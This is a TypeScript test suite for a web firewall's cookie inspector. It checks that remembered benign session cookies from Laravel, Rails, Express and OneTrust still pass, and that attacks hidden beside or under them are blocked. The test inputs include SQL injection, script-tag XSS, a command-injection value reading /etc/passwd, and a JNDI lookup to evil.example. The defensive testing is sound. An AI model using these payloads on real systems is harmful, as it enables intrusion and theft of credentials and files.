import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { describe, test } from 'node:test'
import { Clearance } from '../src/clearance/clearance.ts'
import { beginInspection, inspect, ownRuleSet } from '../src/inspect.ts'

const noise = (seed: string, length: number): string =>
  createHash('shake256', { outputLength: length }).update(seed).digest('base64')

const sealed = (seed: string): string =>
  encodeURIComponent(
    Buffer.from(
      JSON.stringify({
        iv: noise(`${seed} iv`, 16),
        value: noise(`${seed} value`, 96),
        mac: 'ab12'.repeat(16),
      }),
    ).toString('base64'),
  )

/** Cookies of frameworks that one scan does not clear. */
const HONEST: Readonly<Record<string, string>> = {
  laravel: `laravel_session=${sealed('a')}`,
  rails: `_app_session=${encodeURIComponent(`${noise('rails', 90)}--${noise('iv', 12)}--${noise('tag', 16)}`)}`,
  express: `connect.sid=s%3A${noise('id', 24).replaceAll('/', '_')}.${encodeURIComponent(noise('mac', 32))}`,
  onetrust:
    'OptanonConsent=isGpcEnabled=0&datestamp=Fri+Nov+27+2026+08%3A20%3A11+GMT%2B0100+(Central+European+Standard+Time)&groups=C0001%3A1%2CC0002%3A0',
}

const verdictOf = (cookie: string): string =>
  inspect({ method: 'GET', target: '/', headers: ['Cookie', cookie] }).verdict

describe('cookies that were clean', () => {
  for (const [name, cookie] of Object.entries(HONEST)) {
    test(`${name}: is known when it comes again`, () => {
      assert.equal(verdictOf(`${cookie}; theme=dark`), 'pass')
      const found = beginInspection({ method: 'GET', target: '/', headers: ['Cookie', `a=b; ${cookie}`] })
      assert.equal(found.spent, 0, 'it was looked at again')
      assert.equal(found.finish().verdict, 'pass')
    })

    test(`${name}: an attack beside it, behind it, under its name, or with its value under another is found`, () => {
      for (let time = 0; time < 3; time++) assert.equal(verdictOf(cookie), 'pass')
      const [key = '', value = ''] = cookie.split(/=(.*)/s)
      for (const attacked of [
        `${cookie}; q=1' UNION SELECT password FROM users--`,
        `q=%3Cscript%3Ealert(1)%3C/script%3E; ${cookie}`,
        `${cookie}' OR '1'='1`,
        `${cookie}%3Bcat%20/etc/passwd`,
        `${key}=\${jndi:ldap://evil.example/a}`,
        `${key}=${encodeURIComponent("x' UNION SELECT password FROM users--")}`,
        `a' OR 1=1--${key}=${value}`,
        // Python reads what is in quotes across semicolons.
        `b="<script>alert(1)\\073; ${cookie}; </script>"`,
      ])
        assert.equal(verdictOf(attacked), 'block', attacked)
    })
  }

  test('an attack is never remembered, however often it comes', () => {
    const attack = `session=${encodeURIComponent("x' UNION SELECT username, password FROM users--")}`
    for (let time = 0; time < 4; time++) assert.equal(verdictOf(`theme=dark; ${attack}`), 'block')
  })

  test('nothing is remembered of a request in which a rule found something elsewhere, or that was cut short', () => {
    const clearance = Clearance.of(ownRuleSet)
    const cookie = `laravel_session=${sealed('elsewhere')}`
    inspect({ method: 'GET', target: "/?q=1'%20OR%201=1--", headers: ['Cookie', cookie] })
    assert.equal(clearance.clearedCookies(cookie), undefined)
    const bounds = { values: 1, depth: 8, expanded: 1_024, effort: 1, cpu: 50 }
    inspect({ method: 'GET', target: '/', headers: ['Cookie', cookie] }, { bounds })
    assert.equal(clearance.clearedCookies(cookie), undefined)
    inspect({ method: 'GET', target: '/', headers: ['Cookie', cookie] })
    assert.notEqual(clearance.clearedCookies(cookie), undefined)
  })

  test('a long one that is known is not decoded again, and a new one is', t => {
    const clearance = Clearance.of(ownRuleSet)
    const cookie = `laravel_session=${sealed('long')}`
    assert.equal(verdictOf(cookie), 'pass')
    const decoded = t.mock.method(clearance.opaque, 'has')
    assert.notEqual(clearance.clearedCookies(cookie), undefined)
    assert.equal(decoded.mock.callCount(), 0)
    clearance.clearedCookies(`laravel_session=${sealed('another')}`)
    assert.ok(decoded.mock.callCount() > 0)
  })

  test('what could act in a statement is still compared there when it is known', () => {
    const cookie = `note=${encodeURIComponent("It's a long note of a customer, and no attack")}`
    for (let time = 0; time < 3; time++) {
      const found = beginInspection({ method: 'GET', target: '/', headers: ['Cookie', cookie] })
      assert.equal(found.finish().verdict, 'pass')
      assert.equal(found.mayAct, true)
    }
  })
})
